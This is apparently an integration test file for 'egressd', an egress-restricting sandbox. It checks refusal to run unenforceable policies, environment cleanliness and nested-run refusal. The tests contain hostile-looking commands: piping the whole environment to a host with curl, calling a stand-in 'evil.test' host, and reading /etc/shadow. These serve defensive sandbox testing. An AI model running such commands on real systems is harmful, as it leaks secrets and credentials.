//! What cannot be enforced is not run, and says so. What runs sees a clean environment and nothing of egressd.

use std::{collections::BTreeMap, fs, time::Duration};

use lab::{EVIL, Lab, Launch, OK, need};

/// egressd started so that it has a mount namespace of its own, in which `preparation` has run.
fn prepared<'l>(run: Launch<'l>, preparation: &str) -> Launch<'l> {
    run.through(&["unshare", "-m", "sh", "-c", &format!("{preparation} && exec \"$0\" \"$@\"")])
}

#[test]
fn t26_cannot_enforce_does_not_run() {
    need("capsh");
    let lab = Lab::new();
    let token = lab.token("ran");
    let (state, pins) = (lab.state_dir(), lab.pin_dir());
    let run = || lab.egressd("run").deadline(Duration::from_secs(10));
    let allowed = || run().flags("--allow ok.test");
    let v1 = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let v1 = v1.lines().find(|line| line.contains(" - cgroup ")).map(|line| line.split(' ').nth(4).unwrap().to_owned());
    let capsh = ["capsh", "--drop=cap_bpf,cap_sys_admin", "--", "-c", "exec \"$0\" \"$@\""];
    let read_only =
        format!("mkdir -p -m 700 {0} && mount -t bpf bpf {0} && mount -o remount,ro,bind {0}", pins.display());
    let full = format!(
        "mkdir -p -m 700 {0} && mount -t tmpfs -o size=64k tmpfs {0} && {{ cat /dev/zero > {0}/full 2>/dev/null || :; }}",
        state.display()
    );
    let mut rows = vec![
        ("no CAP_BPF", allowed().through(&capsh), "CAP_"),
        ("no such cgroup", allowed().flags("--cgroup /sys/fs/cgroup/no/such"), "/sys/fs/cgroup/no/such"),
        ("read-only pins", prepared(allowed(), &read_only), pins.to_str().unwrap()),
        ("full state", prepared(allowed(), &full), state.to_str().unwrap()),
        ("a hook fails", allowed().env("EGRESSD_FAULT", "attach_connect6"), "connect6"),
        ("the agent is silent", allowed().env("EGRESSD_FAULT", "agent_silent"), "agent"),
        ("empty name", run().arg("--allow").arg(""), "--allow"),
        ("everything", run().arg("--allow").arg("*"), "*"),
        ("no address", run().no_dns().flags("--allow ok.test --dns not:an:ipv6"), "not:an:ipv6"),
        ("no such device", run().no_dns().flags("--allow ok.test --dns fe80::1%nope"), "nope"),
        ("no rate", allowed().flags("--rate abc"), "abc"),
        ("a required name", allowed().flags("--allow gone.invalid --pre-resolve"), "gone.invalid (no such name)"),
        ("no policy file", run().flags("--policy /nonexistent"), "/nonexistent"),
    ];
    match &v1 {
        Some(path) => rows.push(("cgroup v1", allowed().flags(&format!("--cgroup {path}")), path)),
        None => lab::skip("no cgroup v1 hierarchy on this host"),
    }
    let before = lab.snapshot();
    for (name, launch, cause) in rows {
        let output = launch.program(&["curl", "-fsS", "-m5", &format!("http://{OK}/{token}")]).output();
        assert_eq!(output.code, Some(125), "{name}: {output}");
        assert!(output.stderr.contains(cause), "{name} does not name {cause}: {output}");
        assert!(output.stdout.is_empty(), "{name}: {output}");
        assert_eq!(lab.hits(&token), [], "{name}: the command was run");
        assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new(), "{name} left something");
    }
    allowed().program(&["curl", "-fsS", "-m5", &format!("http://ok.test/{token}")]).output().exits(0);
    lab.expect_hits(&token, 1);
}

#[test]
fn t27_environment() {
    let lab = Lab::new();
    let token = lab.token("env");
    let big = "x".repeat(100_000);
    let script = format!("env -0 | curl -fsS -m5 --data-binary @- http://ok.test/{token}");
    let launch =
        lab.egressd("run").env("E", "@#$% é").env("EMPTY", "").env("BIG", &big).env("EGRESSD_PRE_RESOLVE", "off");
    launch.flags("--allow ok.test --env X=1").arg("--env").arg("Y=two words").sh(&script).output().exits(0);
    let hits = lab.expect_hits(&token, 1);
    let body = String::from_utf8(hits[0].body().to_vec()).unwrap();
    let seen: BTreeMap<_, _> = body.split('\0').filter_map(|pair| pair.split_once('=')).collect();
    for (name, value) in
        [("E", "@#$% é"), ("EMPTY", ""), ("BIG", big.as_str()), ("X", "1"), ("Y", "two words"), ("PATH", lab::PATH)]
    {
        assert_eq!(seen.get(name), Some(&value), "{name}");
    }
    let own: Vec<_> = seen.keys().filter(|name| name.starts_with("EGRESSD_")).collect();
    assert!(own.is_empty() && !seen.contains_key("UNSET"), "{own:?}");
}

#[test]
fn t27_nested_run_is_refused() {
    let lab = Lab::new();
    let token = lab.token("nested");
    let binary = lab.directory().join("egressd");
    fs::copy(lab::binary(), &binary).unwrap();
    let inner = format!(
        "{} run --state-dir {} --pin-dir {} --dns {} --allow ok.test -- sh -c 'curl -sS -m3 http://ok.test/{token}; curl -sS -m3 http://evil.test/{token}'",
        binary.display(),
        lab.work_dir().join("state").display(),
        lab.work_dir().join("pins").display(),
        lab::DNS
    );
    let output = lab.sh("--allow evil.test", &inner);
    output.exits(125);
    assert!(
        output.stderr.lines().any(|line| line.starts_with("egressd: ") && line.contains("sandbox")),
        "the reason: {output}"
    );
    lab.expect_silence(OK);
    lab.expect_silence(EVIL);
    lab.sh("--allow evil.test", &format!("curl -fsS -m3 http://evil.test/{token}")).exits(0);
    lab.expect_hits(&token, 1);
}

#[test]
fn t27_standard_streams_belong_to_the_command() {
    let lab = Lab::new();
    assert_eq!(lab.run("", &["echo", "hi"]).exits(0).stdout, "hi\n");
    assert_eq!(lab.run("--allow ok.test", &["echo", "hi"]).exits(0).stdout, "hi\n");
    let mut fed = lab.egressd("run").program(&["cat"]).spawn();
    fed.feed(b"through\n");
    assert_eq!(fed.finish(Duration::from_secs(20)).exits(0).stdout, "through\n");
    lab.run("", &["cat", "/nonexistent"]).exits(1).says("/nonexistent");
    lab.run("", &["cat", "/etc/shadow"]).exits(1).says("Permission denied");
    assert_eq!(lab.sh("", "id -un; id -G").exits(0).stdout, "nobody\n65534\n");
}
